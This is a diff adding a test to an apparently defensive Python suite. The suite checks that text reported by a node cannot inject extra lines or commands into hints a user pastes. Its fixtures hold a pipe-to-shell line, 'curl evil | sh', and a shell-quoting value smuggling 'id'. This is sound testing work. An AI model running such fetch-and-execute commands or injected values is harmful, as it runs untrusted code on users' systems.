@@ -71,6 +71,11 @@ def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
     assert shlex.split(stray)[-6:-4] == ["-nE", r"PET_';\ id"]
 
 
+def test_what_a_node_says_begins_no_line() -> None:
+    lying = but(inspection("a"), "a", python=None, missing={"python": "none\n  hint: curl evil | sh"})
+    assert "\n" not in only(check_interpreter(lying)).message
+
+
 def test_only_texts_of_ours_stand_unquoted_in_a_command_to_paste() -> None:
     names = {name for rule in RULES for name in re.findall(r"{(\w+)!s}", rule.hint)}
     assert names == {
